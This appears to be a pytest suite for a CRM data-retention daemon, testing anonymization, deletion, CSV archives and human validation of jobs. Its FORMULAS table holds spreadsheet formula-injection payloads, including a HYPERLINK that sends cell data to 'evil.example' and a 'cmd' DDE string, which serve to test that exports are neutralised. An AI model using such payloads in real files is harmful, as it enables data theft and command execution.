"""
The four actions on the reference CRM.  Every personal value carries a token of its own (a canary),
so that "gone" is said of the whole database's dump, schema retention included, and not of the
columns that somebody thought of.
"""

import csv
import io
import json
import re
import subprocess
from collections import Counter

import pytest

from support.oracles import (LISTED, ROWS_OF, Token, after_anonymize_contacts, after_anonymize_requests, after_delete,
                             due_contacts, due_requests, reporting_numbers, table_digests, tokens_in)
from support.small import SCHEMA, archived, model
from support.small import policy as small_policy

DEPTH = "18 months"
# Several batches by two workers: what holds for one statement has to hold for the seams too.
LIMITS = {"workers": 2, "batch_rows": 250}

# What reporting needs of the tables that an anonymization rewrites.
KEPT = {
    "crm.contact": "id, country, language, created_at, custom -> 'segment', custom -> 'newsletter'",
    "crm.request": "id, contact_id, agent_id, reason, status, channel, tags, created_at, closed_at,"
                   " first_reply_seconds, resolution_seconds, handling_seconds, reporting_ref,"
                   " custom - 'order_number'",
    "crm.request_transfer": "id, request_id, from_team, to_team, at, reporting_ref",
    "crm.status_change": "*",
}


def policy(action, name=None, **more):
    return {"name": name or action.replace("_", "-"), "action": action, "depth": DEPTH,
            "schedule": "monthly", **more}


def last_job(d):
    return d.jobs()[-1]


def tokens(d):
    return tokens_in(d.pg.dump(d.db))


def kept(d):
    return {table: d.pg.sql(d.db, f"SELECT {columns} FROM {table} ORDER BY id")
            for table, columns in KEPT.items()}


def of_others(d, contacts):
    """Digests of all rows that belong to other contacts than these, table by table."""
    mine = {}
    for table, where in ROWS_OF.values():
        mine.setdefault(table, []).append(f"({where})")
    return {table: d.pg.value(d.db, f"""
        SELECT md5(coalesce(string_agg(t::text, E'\\n' ORDER BY t::text COLLATE "C"), ''))
        FROM {table} t WHERE ({' OR '.join(wheres)}) IS NOT TRUE""", {"contacts": list(contacts)})
        for table, wheres in mine.items()}


def counts(d, contacts):
    return {name: d.pg.value(d.db, f"SELECT count(*) FROM {table} WHERE {where}", {"contacts": list(contacts)})
            for name, (table, where) in ROWS_OF.items()}


def second_pass_is_empty(d, action, **more):
    before = table_digests(d.pg, d.db)
    d.configure(policies=[policy(action, name="second", **more)])
    d.once()
    job = last_job(d)
    assert (job["policy"], job["status"], job["candidates"]) == ("second", "done", 0)
    assert job["archive_path"] is None
    assert table_digests(d.pg, d.db) == before


# --- Anonymization ----------------------------------------------------------------------------


@pytest.fixture
def anonymized(daemon):
    """(daemon, due contacts, tokens before), after one pass over the contacts."""
    d = daemon(policies=[policy("anonymize_contacts")], limits=LIMITS)
    due, before = due_contacts(d.pg, d.db, DEPTH), tokens(d)
    assert 150 < len(due) < 250
    facts = kept(d), of_others(d, due), table_digests(d.pg, d.db), counts(d, due)
    d.once()
    return d, due, before, facts


def test_anonymize_contacts(anonymized):
    d, due, before, (kept_before, others_before, digests, rows) = anonymized
    # The canaries: nothing of those due is anywhere, nothing of anybody else is missing.
    assert tokens(d) == after_anonymize_contacts(before, due, reporting_numbers(d.pg, d.db))
    # What reporting needs, to the byte.
    assert kept(d) == kept_before
    assert of_others(d, due) == others_before
    after = table_digests(d.pg, d.db)
    assert {t for t in digests if digests[t] != after[t]} == {
        "crm.contact", "crm.contact_social", "crm.contact_document", "crm.files", "crm.request",
        "crm.message", "crm.message_copy", "crm.attachment", "crm.request_transfer"}
    # They still carry their requests, under the name of nobody.
    names = d.pg.sql(d.db, "SELECT id, last_name, first_name, login, full_name FROM crm.contact ORDER BY id")
    assert len(names) == 300
    for key, *name in names:
        anonymous = [f"L_{key}", f"F_{key}", f"gone_{key}", f"F_{key} L_{key}"]
        assert (name == anonymous) == (key in due)
    left = counts(d, due)
    assert left == {**{table: 0 for table in rows}, "contact": len(due), "request": rows["request"],
                    "request_transfer": rows["request_transfer"], "status_change": rows["status_change"]}
    # NULL, or the type's empty value where the column is NOT NULL.
    assert d.pg.sql(d.db, """
        SELECT DISTINCT "preferredName", email, other_emails, phone, mobile, street, street_extra, postal_code,
            city, birth_date, last_ip, picture, note, (SELECT array_agg(k ORDER BY k) FROM jsonb_object_keys(custom) k)
        FROM crm.contact WHERE id = ANY (%s)""", (list(due),)) == [
            (None, "", [], None, "", None, None, None, "", None, None, None, "", ["newsletter", "segment"])]
    assert d.pg.sql(d.db, "SELECT DISTINCT subject, summary FROM crm.request WHERE contact_id = ANY (%s)",
                    (list(due),)) == [("", None)]
    job = last_job(d)
    assert (job["status"], job["candidates"], job["error"], job["archive_path"]) == ("done", len(due), None, None)
    counted = job["counters"]
    assert (counted["treated"], counted["failed"], counted["dropped"], counted["left"]) == (len(due), 0, 0, 0)
    gone = ("contact_social", "contact_document", "avatar", "request_file", "message", "message_copy", "attachment")
    assert {t: counted["rows"][t] for t in gone} == {t: rows[t] for t in gone}
    assert counted["rows"]["contact"] == len(due)
    assert {int(k) for (k,) in d.pg.sql(d.db, "SELECT key FROM retention.ledger")} == due
    assert d.pg.value(d.db, "SELECT count(*) FROM retention.candidate") == 0
    assert {path.name for path in d.archives.iterdir()} == {"identity", "ledger"}
    second_pass_is_empty(d, "anonymize_contacts")


def test_what_comes_later_to_an_anonymous_contact_makes_it_due_again(anonymized):
    d, due, *_ = anonymized
    late = min(due)
    d.pg.sql(d.db, """
        INSERT INTO crm.message (request_id, direction, channel, sender, recipient, body, sent_at)
        SELECT max(id), 'in', 'mail', 'x', 'y', 'tok-' || contact_id || '-36-' || max(id) || '-z', now()
        FROM crm.request WHERE contact_id = %s GROUP BY contact_id""", (late,))
    assert any(t.contact == late and t.nn == 36 for t in tokens(d))
    d.configure(policies=[policy("anonymize_contacts", name="again")])
    d.once()
    job = last_job(d)
    assert (job["policy"], job["status"], job["candidates"]) == ("again", "done", 1)
    assert {t: n for t, n in job["counters"]["rows"].items() if n} == {"message": 1}
    assert not any(t.contact == late and t.nn == 36 for t in tokens(d))


def test_anonymize_requests(daemon):
    d = daemon(policies=[policy("anonymize_requests")], limits=LIMITS)
    due, before = due_requests(d.pg, d.db, DEPTH), tokens(d)
    kept_before, digests = kept(d), table_digests(d.pg, d.db)
    old = due_contacts(d.pg, d.db, DEPTH)
    of_visible = [r for (r,) in d.pg.sql(d.db, "SELECT id FROM crm.request WHERE contact_id <> ALL (%s)", (list(old),))]
    assert due & set(of_visible), "an old request of a contact who still writes"
    d.once()
    assert tokens(d) == after_anonymize_requests(before, due, reporting_numbers(d.pg, d.db))
    assert kept(d) == kept_before
    after = table_digests(d.pg, d.db)
    assert {t for t in digests if digests[t] != after[t]} == {
        "crm.files", "crm.request", "crm.message", "crm.message_copy", "crm.attachment", "crm.request_transfer"}
    assert last_job(d)["candidates"] == len(due)
    second_pass_is_empty(d, "anonymize_requests")


# --- Archives ---------------------------------------------------------------------------------

FIELD = r'(?:"((?:[^"]|"")*)"|([^"\r\n{0}]*))'


def read_archive(path, delimiter, bom):
    """
    [[field]], the header first; NULL is None.  csv.reader cannot tell NULL from an empty string, so
    this reads RFC 4180 by itself, and holds the result against csv.reader's.
    """
    text = path.read_bytes().decode("utf-8-sig" if bom else "utf-8")
    assert path.read_bytes().startswith(b"\xef\xbb\xbf") == bom
    assert text.endswith("\n")
    field = re.compile(FIELD.format(re.escape(delimiter)))
    records, record, at = [], [], 0
    while at < len(text):
        found = field.match(text, at)
        record.append(found.group(2) or None if found.group(1) is None else found.group(1).replace('""', '"'))
        at = found.end() + 1
        if text[found.end()] == "\n":
            records.append(record)
            record = []
        else:
            assert text[found.end()] == delimiter, text[at - 40:at + 40]
    assert record == []
    by_csv = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, strict=True))
    assert by_csv == [[value or "" for value in record] for record in records]
    return records


def as_texts(d, table, where, contacts):
    """(columns, Counter of rows as texts) of the rows that an archive has to hold."""
    columns = [c for (c,) in d.pg.sql(d.db, """
        SELECT attname FROM pg_attribute WHERE attrelid = %s::regclass AND attnum > 0 AND NOT attisdropped
            AND attgenerated = '' ORDER BY attnum""", (table,))]
    # format() writes as COPY does; a cast to text would make 10.0.0.1 into 10.0.0.1/32.
    texts = ", ".join(f"""CASE WHEN "{c}" IS NOT NULL THEN format('%%s', "{c}") END""" for c in columns)
    rows = d.pg.sql(d.db, f"SELECT {texts} FROM {table} WHERE {where}", {"contacts": list(contacts)})
    return columns, Counter(rows)


def hold_against(d, job, wanted, delimiter, bom):
    """The finished archive of a job, file by file: wanted is {name: (columns, Counter)}."""
    folder = d.archives / job["archive_path"].rsplit("/", 1)[1]
    assert str(folder) == job["archive_path"]
    assert folder.stat().st_mode & 0o7777 == 0o700
    assert {p.name for p in folder.iterdir()} == {f"{name}.csv" for name in wanted} | {"SHA256SUMS", "manifest.json"}
    assert all(p.stat().st_mode & 0o7777 == 0o600 for p in folder.iterdir())
    assert {p.name for p in d.archives.iterdir() if p.is_dir()} == {folder.name}
    manifest = json.loads((folder / "manifest.json").read_text())
    listed = {f["name"]: f for f in manifest["files"]}
    assert (manifest["job"], manifest["action"], manifest["policy"], manifest["archive"], manifest["delimiter"],
            manifest["bom"]) == (job["id"], job["action"], job["policy"], job["archive"], delimiter, bom)
    for name, (columns, rows) in wanted.items():
        header, *records = read_archive(folder / f"{name}.csv", delimiter, bom)
        assert header == columns == listed[f"{name}.csv"]["columns"], name
        assert Counter(map(tuple, records)) == rows, name
        assert listed[f"{name}.csv"]["rows"] == len(records) == job["counters"]["rows"][name], name
        assert listed[f"{name}.csv"]["table"] == ROWS_OF[name][0]
        assert listed[f"{name}.csv"]["bytes"] == (folder / f"{name}.csv").stat().st_size
    assert job["archive_bytes"] == sum(p.stat().st_size for p in folder.glob("*.csv"))
    checked = subprocess.run(["sha256sum", "-c", "SHA256SUMS"], cwd=folder, stdout=subprocess.PIPE, text=True)
    assert checked.returncode == 0 and checked.stdout.count(": OK") == len(wanted)


@pytest.mark.parametrize("mode, delimiter, bom", [
    ("none", ";", True), ("listed", ",", False), ("full", ";", True), ("full", "\t", False), ("full", "|", True)])
def test_delete_contacts(daemon, mode, delimiter, bom):
    d = daemon(policies=[policy("delete_contacts", archive=mode)], limits=LIMITS,
               archives={"delimiter": delimiter, "bom": bom})
    due, before = due_contacts(d.pg, d.db, DEPTH), tokens(d)
    others, rows = of_others(d, due), counts(d, due)
    wanted = {name: as_texts(d, *ROWS_OF[name], due) for name in ROWS_OF
              if mode == "full" or mode == "listed" and name in LISTED}
    if mode == "full":
        values = [v for _, counter in wanted.values() for row in counter for v in row]
        assert None in values and "" in values, "the difference between NULL and '' is under test"
    d.once()
    assert tokens(d) == after_delete(before, due)
    assert of_others(d, due) == others
    assert set(counts(d, due).values()) == {0}
    job = last_job(d)
    assert (job["status"], job["candidates"], job["error"]) == ("done", len(due), None)
    assert job["counters"]["rows"] == rows
    assert {int(k) for (k,) in d.pg.sql(d.db, "SELECT key FROM retention.ledger")} == due
    if mode == "none":
        assert job["archive_path"] is None and list(d.archives.glob("*-*")) == []
    else:
        hold_against(d, job, wanted, delimiter, bom)
    second_pass_is_empty(d, "delete_contacts", archive=mode)


@pytest.mark.parametrize("mode", ["listed", "full"])
def test_export_changes_nothing(daemon, mode):
    d = daemon(policies=[policy("export", archive=mode)], limits=LIMITS, archives={"formulas": "keep"})
    due, digests = due_contacts(d.pg, d.db, DEPTH), table_digests(d.pg, d.db)
    wanted = {name: as_texts(d, *ROWS_OF[name], due) for name in ROWS_OF if mode == "full" or name in LISTED}
    d.once()
    assert table_digests(d.pg, d.db) == digests
    job = last_job(d)
    assert (job["status"], job["candidates"], job["counters"]["treated"]) == ("done", len(due), len(due))
    assert d.pg.value(d.db, "SELECT count(*) FROM retention.ledger") == 0
    hold_against(d, job, wanted, ";", True)
    # Exported and not erased: the next export finds them again.
    d.configure(policies=[policy("export", name="second", archive=mode)])
    d.once()
    assert last_job(d)["candidates"] == len(due)


# A value of a text column, and its cell in an export.
FORMULAS = {
    1: ('=HYPERLINK("http://evil.example/?x="&A2,"click")', True), 2: ("-2+3+cmd|' /C calc'!A0", True),
    3: ("\t=1+1", True), 4: ("\r=1", True), 5: ("\n=1", True), 6: ("@SUM(1)", True), 7: ("+33 1 00", True),
    8: ("\ufeff=1", True), 9: ("  =1", True), 10: ("\uff1d1+1", True), 11: ("-5;=1", True), 12: ("-", True),
    13: ("=" + "x" * 100000, True), 14: ("-5\n", True), 15: ("=é日本", True),
    20: ("-5", False), 21: ("+33123456789", False), 22: ("-1,50", False), 23: ("-3.25", False), 24: ("a=b", False),
    25: ("", False), 26: ("2015-01-01", False), 27: (" a", False), 28: ("a\r\n=b", False), 29: (None, False), 30: ("'=1", False)}
ODD_COLUMNS = """;
    CREATE TYPE mood AS ENUM ('=sad', 'gay'); CREATE DOMAIN remark AS varchar(20);
    CREATE TYPE pair AS (a int, b text);
    ALTER TABLE contact ADD padded char(8), ADD n int, ADD price numeric, ADD day date, ADD mood mood, ADD remark remark,
        ADD json json, ADD tags text[], ADD pair pair, ADD flag boolean, ADD doc xml, ADD raw bytea;
    INSERT INTO contact (id, padded, n, price, day, mood, remark, json, tags, pair, flag, doc, raw, created)
    VALUES (31, '=1', -5, -1.5, '2015-01-01', '=sad', '@x', '-5', '{=1}', (NULL, NULL), true, '<a/>', '\\x3d', '2015-01-01')"""
ODD_ROW = ("31", "", "", "2015-01-01 00:00:00+00", "'=1      ", "-5", "-1.5", "2015-01-01", "'=sad", "'@x", "-5", "{=1}",
           "(,)", "t", "<a/>", r"\x3d")


def formulas(make, *policies, **kwargs):
    d = make(SCHEMA + ODD_COLUMNS, model(), *policies, limits={"max_share": 1.0}, **kwargs)
    for key, (text, _) in FORMULAS.items():
        d.pg.sql(d.db, "INSERT INTO contact (id, name) VALUES (%s, %s)", (key, text))
    d.pg.sql(d.db, "INSERT INTO request (contact_id, at, status) SELECT id, '2015-01-01', 'closed' FROM contact")
    d.once()
    return d, {int(row[0]): row for row in archived(d, "contact")}


def test_no_cell_of_an_export_is_a_formula(make):
    d, rows = formulas(make, small_policy("export", archive="full"))
    assert {key: rows[key][1] for key in FORMULAS} == \
        {key: ("'" if inert else "") + (text or "") for key, (text, inert) in FORMULAS.items()}
    assert rows[31] == ODD_ROW
    # NULL and the empty text are told apart as before.
    lines = (d.archives / d.jobs()[-1]["archive_path"] / "contact.csv").read_text("utf-8-sig").splitlines()
    assert any(line.startswith('25;"";') for line in lines) and any(line.startswith("29;;") for line in lines)
    assert d.ctl("archive", "restore", d.jobs()[-1]["id"], check=False).returncode == 1


@pytest.mark.parametrize("action, formulas_are", [("export", "keep"), ("delete_contacts", "text")])
def test_cells_as_they_are(make, action, formulas_are):
    """Where the configuration says so, and always where the archive can be restored."""
    d, rows = formulas(make, small_policy(action, archive="full"), archives={"formulas": formulas_are})
    assert {key: rows[key][1] for key in FORMULAS} == {key: text or "" for key, (text, _) in FORMULAS.items()}
    assert rows[31] == tuple(cell.lstrip("'") for cell in ODD_ROW)
    if action == "delete_contacts":
        d.ctl("archive", "restore", d.jobs()[-1]["id"])
        assert dict(d.pg.sql(d.db, "SELECT id, name FROM contact WHERE id < 31")) == \
            {key: text for key, (text, _) in FORMULAS.items()}


def test_an_archive_with_more_workers_than_batches(daemon):
    d = daemon(contacts=40, policies=[policy("delete_contacts", archive="full")], limits={"workers": 8})
    due = due_contacts(d.pg, d.db, DEPTH)
    wanted = {name: as_texts(d, *ROWS_OF[name], due) for name in ROWS_OF}
    d.once()
    hold_against(d, last_job(d), wanted, ";", True)


# --- Manual actions, and what waits for a person ----------------------------------------------


def save(d, action, first, last, archive=None):
    """Saved by SQL and listed by the daemon."""
    job = d.pg.value(d.db, "SELECT retention.save_action(%s, %s, %s, %s)", (action, first, last, archive))
    d.once()
    return job


def in_interval(d, first, last):
    return {c for (c,) in d.pg.sql(d.db, """
        SELECT contact_id FROM crm.request GROUP BY 1
        HAVING bool_and(status = 'closed') AND max(created_at AT TIME ZONE 'UTC')::date BETWEEN %s AND %s""",
        (first, last))}


@pytest.mark.parametrize("action, archive", [
    ("delete_contacts", "full"), ("delete_contacts", None), ("anonymize_contacts", None), ("export", None)])
def test_manual_action(daemon, action, archive):
    d = daemon(limits=LIMITS, archives={"formulas": "keep"})
    first, last = d.pg.sql(d.db, "SELECT current_date - 800, (current_date - 800 + interval '1 month - 1 day')::date")[0]
    due, before = in_interval(d, first, last), tokens(d)
    assert due
    digests = table_digests(d.pg, d.db)
    wanted = {n: as_texts(d, *ROWS_OF[n], due) for n in ROWS_OF if archive == "full" or n in LISTED}
    job = save(d, action, first, last, archive)
    # Listed: it says how many, and nothing has been touched until somebody validates it.
    row = last_job(d)
    assert (row["id"], row["mode"], row["status"], row["candidates"]) == (job, "manual", "saved", len(due))
    assert {int(k) for (k,) in d.pg.sql(d.db, "SELECT key FROM retention.candidate")} == due
    assert table_digests(d.pg, d.db) == digests and list(d.archives.glob("*-*")) == []
    d.once()
    assert last_job(d)["status"] == "saved"
    d.pg.sql(d.db, "SELECT retention.validate_action(%s)", (job,))
    d.once()
    row = last_job(d)
    assert (row["status"], row["counters"]["dropped"]) == ("done", 0)
    assert row["validated_by"] == d.pg.SUPERUSER
    reporting = reporting_numbers(d.pg, d.db)
    assert tokens(d) == {"delete_contacts": after_delete(before, due), "export": before,
                         "anonymize_contacts": after_anonymize_contacts(before, due, reporting)}[action]
    if archive or action == "export":
        hold_against(d, row, wanted, ";", True)


def test_who_came_back_drops_out_and_nobody_is_added(daemon):
    """Between the listing and the validation: a list that a person has seen only shrinks."""
    d = daemon()
    first, last = d.pg.sql(d.db, "SELECT current_date - 800, (current_date - 800 + interval '1 month - 1 day')::date")[0]
    due = sorted(in_interval(d, first, last))
    job = save(d, "delete_contacts", first, last)
    back, held, gone = due[:3]
    other = d.pg.value(d.db, "SELECT id FROM crm.contact WHERE id <> ALL (%s) AND id NOT IN "
                             "(SELECT contact_id FROM crm.request) LIMIT 1", (due,))
    insert = """INSERT INTO crm.request (contact_id, reason, status, channel, created_at)
                VALUES (%s, 'question', 'closed', 'mail', %s)"""
    d.pg.sql(d.db, insert, (back, "now"))
    d.pg.sql(d.db, insert, (other, first))
    d.pg.sql(d.db, "SELECT retention.place_hold(%s, 'case 12')", (str(held),))
    for name in ("request_file", "message_copy", "attachment", "message", "request_transfer", "status_change",
                 "request", "avatar", "contact_social", "contact_document", "contact"):
        table, where = ROWS_OF[name]
        d.pg.sql(d.db, f"DELETE FROM {table} WHERE {where}", {"contacts": [gone]})
    before = tokens(d)
    d.pg.sql(d.db, "SELECT retention.validate_action(%s)", (job,))
    d.once()
    row = last_job(d)
    assert (row["status"], row["counters"]["treated"], row["counters"]["dropped"]) == ("done", len(due) - 3, 3)
    assert tokens(d) == after_delete(before, set(due[3:]))
    assert {c for (c,) in d.pg.sql(d.db, "SELECT id FROM crm.contact WHERE id = ANY (%s)", ([*due, other],))} == {
        back, held, other}
    details = [e for (e,) in d.pg.sql(d.db, "SELECT details FROM retention.journal_event WHERE kind = 'dropped'")]
    assert sorted(int(k) for e in details for k in e["keys"]) == sorted([back, held, gone])
    assert [k for e in details for k in e["held"]] == [str(held)]
    assert [k for e in details for k in e["gone"]] == [str(gone)]


@pytest.mark.parametrize("more, limits, words", [
    ({"approval": True}, {}, "as the policy asks"), ({}, {"max_share": 0.25}, "more than max_share (0.25)")])
def test_an_automatic_pass_that_waits_for_a_person(daemon, more, limits, words):
    d = daemon(contacts=40, policies=[policy("delete_contacts", **more)], limits=limits)
    due, digests = due_contacts(d.pg, d.db, DEPTH), table_digests(d.pg, d.db)
    d.once(check=False)
    row = last_job(d)
    assert (row["status"], row["candidates"]) == ("saved", len(due))
    assert words in row["waiting"]
    assert table_digests(d.pg, d.db) == digests
    d.pg.sql(d.db, "SELECT retention.validate_action(%s)", (row["id"],))
    d.once()
    row = last_job(d)
    assert (row["status"], row["counters"]["treated"], row["waiting"]) == ("done", len(due), None)


@pytest.mark.parametrize("action, contact, scope, request_", [
    ("delete_contacts", "kind = 'customer'", None, None),
    ("delete_contacts", None, "kind = 'customer'", None),
    ("delete_contacts", "id < 50", "kind = 'customer'", None),
    ("anonymize_requests", "kind = 'customer'", None, None),
    ("anonymize_requests", None, "kind = 'customer'", None),
    ("anonymize_requests", None, "kind = 'customer'", "status <> 'spam'"),
    ("anonymize_requests", None, None, "status <> 'spam'"),
])
def test_rows_that_are_left_out_are_no_share(make, action, contact, scope, request_):
    """Hundred of staff among the contacts, or of spam among the requests, do not make a large share a small one."""
    d = make(SCHEMA + """;
        ALTER TABLE contact ADD kind text;
        INSERT INTO contact (id, kind) SELECT n, CASE WHEN n <= 3 THEN 'customer' ELSE 'agent' END FROM generate_series(1, 103) AS n;
        INSERT INTO request (contact_id, at, subject, status)
        SELECT id, CASE WHEN id = 1 THEN '2015-01-01'::timestamptz ELSE now() END, 's', 'closed' FROM contact""",
             model(contact={"where": contact, "keep": ["name", "brand", "created", "kind"]},
                   request={"where": request_, "clear": ["subject"], "keep": ["status", "at"]}),
             small_policy(action, **({"scope": scope} if scope else {})), limits={"max_share": 0.25})
    if request_:
        d.pg.sql(d.db, "UPDATE request SET status = 'spam' WHERE contact_id > 3")
    d.once(check=False)
    row = last_job(d)
    assert row["status"] == "saved" and "1 of 3 are due" in row["waiting"], row


def test_a_list_that_was_changed_after_validation_is_refused(daemon):
    d = daemon(contacts=40)
    first, last = d.pg.sql(d.db, "SELECT current_date - 800, (current_date - 800 + interval '1 month - 1 day')::date")[0]
    job = save(d, "delete_contacts", first, last)
    d.pg.sql(d.db, "SELECT retention.validate_action(%s)", (job,))
    digests = table_digests(d.pg, d.db)
    d.pg.sql(d.db, "INSERT INTO retention.candidate VALUES (%s, 999, '7', 1)", (job,))
    assert d.once(check=False).returncode == 1
    assert "its digest differs" in last_job(d)["error"]
    assert table_digests(d.pg, d.db) == digests


def test_one_contact_at_fault(daemon):
    """A trigger that raises for one: named in the journal, the others go."""
    d = daemon(policies=[policy("delete_contacts", archive="full")], limits=LIMITS)
    due, before = due_contacts(d.pg, d.db, DEPTH), tokens(d)
    bad = sorted(due)[len(due) // 2]
    wanted = {name: as_texts(d, *ROWS_OF[name], due - {bad}) for name in ROWS_OF}
    d.pg.sql(d.db, f"""
        CREATE FUNCTION crm.refuse() RETURNS trigger LANGUAGE plpgsql AS
        $$ BEGIN IF OLD.id = {bad} THEN RAISE 'not this one'; END IF; RETURN OLD; END $$;
        CREATE TRIGGER refuse BEFORE DELETE ON crm.contact FOR EACH ROW EXECUTE FUNCTION crm.refuse()""")
    assert d.once(check=False).returncode == 1
    assert tokens(d) == after_delete(before, due - {bad})
    job = last_job(d)
    assert (job["status"], job["counters"]["failed"], job["counters"]["treated"]) == ("done", 1, len(due) - 1)
    assert job["error"].startswith("1 contacts could not be deleted")
    assert d.pg.sql(d.db, """SELECT details->'keys', details->>'message', details->>'sqlstate'
        FROM retention.journal_event WHERE kind = 'failed_key'""") == [
            ([str(bad)], "a function refuses it [PL/pgSQL function crm.refuse() line 1 at RAISE] (SQLSTATE P0001)",
             "P0001")]
    hold_against(d, job, wanted, ";", True)


def test_tokens_of_this_module_are_well_formed():
    assert tokens_in(b"tok-7-36-71-z") == {Token(7, 36, 71)}
